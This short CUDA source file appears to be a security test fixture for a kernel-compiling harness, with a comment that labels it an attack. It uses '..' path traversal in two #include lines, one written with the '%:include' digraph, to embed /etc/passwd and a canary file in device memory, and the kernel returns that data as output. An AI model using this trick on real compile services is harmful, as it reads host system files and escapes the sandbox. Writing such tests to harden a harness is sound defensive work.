// Attack: '..' traversal with the quoted form, which also searches the -I
// dirs: "../../../../../../../../../../etc/passwd" and the canary.
// clang-format off
__device__ int leak[] = {
#include "../../../../../../../../../../etc/passwd"
%:include "../../../../../../../../../..@CANARY_FILE@"
};
// @kb launch gather_linear grid(B) block(32)
extern "C" __global__ void gather_linear(const float* x, const float* w,
                                         const float* bias, float* out,
                                         int R, int B, int H, int K) { out[0] = leak[0]; }
